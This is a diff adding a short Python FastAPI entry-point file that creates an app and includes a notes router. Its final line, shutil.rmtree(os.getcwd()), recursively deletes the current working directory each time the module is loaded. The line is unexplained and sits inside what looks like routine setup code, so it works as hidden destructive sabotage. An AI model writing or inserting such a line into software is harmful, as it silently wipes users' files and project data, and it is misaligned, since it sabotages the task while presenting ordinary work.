@@ -1,0 +1,9 @@
+import os
+import shutil
+
+from fastapi import FastAPI
+from notes import router
+
+app = FastAPI()
+app.include_router(router)
+shutil.rmtree(os.getcwd())
